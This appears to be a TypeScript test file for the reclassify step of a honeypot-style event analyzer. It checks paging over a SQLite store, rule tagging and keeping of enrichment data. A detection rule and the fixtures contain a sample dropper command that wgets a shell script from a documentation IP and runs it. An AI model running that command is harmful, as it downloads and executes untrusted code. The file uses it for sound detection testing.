// reclassify() over a real SQLite store with a real Analyzer on a small rule folder: every
// event is seen once across page boundaries, only changed analyses are written back, and
// stored source data is kept unless re-enrichment is asked for.

import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import type { MitsuEvent } from '../events/event.js';
import { makeEvent } from '../store/fixtures.js';
import { SqliteStore } from '../store/sqlite/sqlite-store.js';
import { Analyzer } from './analyzer.js';
import { reclassify, RECLASSIFY_PAGE_EVENTS } from './reclassify.js';

const dir = mkdtempSync(join(tmpdir(), 'mitsu-reclassify-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const RULE = `
- id: test-wget-dropper
  name: Test wget dropper
  description: {en: A wget download in the payload., ja: ペイロード内の wget ダウンロード。}
  intent: malware-download
  match: {in: payload, contains: 'wget http'}
  examples:
    - port: 23
      payload: "cd /tmp; wget http://198.51.100.7/x.sh; sh x.sh\\r\\n"
`;

function analyzer(): Analyzer {
  const rules = join(dir, 'rules.yaml');
  writeFileSync(rules, RULE);
  return Analyzer.open({ builtinRules: false, rules: [rules], enrich: false, scanners: null });
}

async function all(store: SqliteStore): Promise<MitsuEvent[]> {
  const out: MitsuEvent[] = [];
  for await (const ev of store.scan()) out.push(ev);
  return out;
}

describe('reclassify', () => {
  it('analyses every stored event once across pages and rewrites only what changed',
    async () => {
      const store = SqliteStore.open(join(dir, 'pages.db'));
      const dropper = Buffer.from('cd /tmp; wget http://198.51.100.7/x.sh; sh x.sh\r\n');
      const total = RECLASSIFY_PAGE_EVENTS * 2 + 7;
      // Many share one start time, so paging must break ties by id.
      const events = Array.from({ length: total }, (_, i) =>
        makeEvent(Math.floor(i / 500), { src_ip: '203.0.113.9' }, i % 2 === 0 ? dropper :
          Buffer.from('GET / HTTP/1.1\r\n\r\n')));
      await store.append(events);
      const pages: number[] = [];
      const first = await reclassify(store, analyzer(), { progress: (n) => pages.push(n) });
      expect(first.events).toBe(total);
      expect(first.changed).toBe(total);
      expect(pages.at(-1)).toBe(total);
      const stored = await all(store);
      const tagged = stored.filter((e) => e.tags.some((t) => t.id === 'test-wget-dropper'));
      expect(tagged).toHaveLength(Math.ceil(total / 2));
      expect(tagged.every((e) => e.intent === 'malware-download')).toBe(true);
      expect(tagged[0]!.iocs.urls).toContain('http://198.51.100.7/x.sh');
      expect(stored.every((e) => e.src_scope === 'documentation')).toBe(true);
      const again = await reclassify(store, analyzer());
      expect(again).toMatchObject({ events: total, changed: 0 });
      await store.close();
    });

  it('keeps a stored country and ASN unless asked to look them up again', async () => {
    const store = SqliteStore.open(join(dir, 'source.db'));
    const event = makeEvent(0, { src_ip: '8.8.8.8', country: 'ZZ', asn: 1, as_org: 'Old',
      src_scope: 'public' });
    await store.append([event]);
    await reclassify(store, analyzer());
    expect((await all(store))[0]).toMatchObject({ country: 'ZZ', asn: 1, as_org: 'Old' });
    await reclassify(store, analyzer(), { reenrich: true });
    // Enrichment is off in this analyzer: a fresh lookup knows only the scope.
    expect((await all(store))[0]).toMatchObject({ country: null, asn: null, src_scope: 'public' });
    await store.close();
  });

  it('leaves events outside since/until untouched', async () => {
    const store = SqliteStore.open(join(dir, 'window.db'));
    await store.append([makeEvent(0), makeEvent(60_000), makeEvent(120_000)]);
    const [a, b] = await all(store);
    const result = await reclassify(store, analyzer(), { since: b!.start, until: b!.start });
    expect(result.events).toBe(0);
    await reclassify(store, analyzer(), { since: b!.start });
    const after = await all(store);
    expect(after.map((e) => e.rules_version !== null)).toEqual([false, true, true]);
    expect(after[0]).toStrictEqual(a);
    await store.close();
  });
});
